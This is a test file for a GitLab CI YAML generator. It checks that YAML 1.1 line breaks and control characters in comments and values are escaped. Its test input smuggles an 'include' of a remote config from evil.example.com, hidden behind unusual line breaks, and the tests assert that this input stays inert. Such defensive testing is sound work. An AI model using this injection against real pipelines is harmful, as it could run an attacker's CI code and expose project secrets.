import { describe, expect, test } from 'vitest'
import { parse } from 'yaml'
import { gitlabYaml } from '../../src/config/gitlab-document.ts'

/** What ends a line in YAML 1.1, beside the line feed. */
const breaks = ['\r', '\u0085', '\u2028', '\u2029']

/** Lines as GitLab's parser sees them. */
function lines(text: string): readonly string[] {
  return text.split(/\r\n|[\n\r\u0085\u2028\u2029]/)
}

describe.each(breaks)('a line break such as %j', (sign) => {
  const evil = `x${sign}include: [{ remote: "https://evil.example.com/x.yml" }]${sign}y`

  test('does not end a comment, wherever it stands', () => {
    const text = gitlabYaml({
      comment: `head ${evil}`,
      entries: [{ key: '.a', comment: evil, value: { b: 'c' }, comments: { b: evil } }],
    })
    expect(lines(text).filter((line) => line.includes('evil') && !/^ *#/.test(line))).toEqual([])
    expect(parse(text, { version: '1.1' })).toEqual({ '.a': { b: 'c' } })
  })

  test.each([
    ['a short text', `x${sign}evil:${sign} - y`],
    ['a text with a colon', evil],
    ['a script of several lines', `echo 1\necho ${evil}\n`],
  ])('is escaped in %s, which is read back as it was', (_, value) => {
    const text = gitlabYaml({ entries: [{ key: '.a', value: { value, [value]: 1, list: [value] } }] })
    expect(text).not.toContain(sign)
    expect(parse(text, { version: '1.1' })).toEqual({ '.a': { value, [value]: 1, list: [value] } })
  })
})

test('control characters, which no YAML may hold, are escaped', () => {
  const value = 'a\u0000\u0007\u001b\u007f\u0080\u009f\ufeffb'
  const text = gitlabYaml({ entries: [{ key: '.a', value: { value, more: `line\n${value}\n` } }] })
  expect(text).toMatch(/^[\n\x20-\x7e]*$/)
  expect(parse(text, { version: '1.1' })).toEqual({ '.a': { value, more: `line\n${value}\n` } })
})
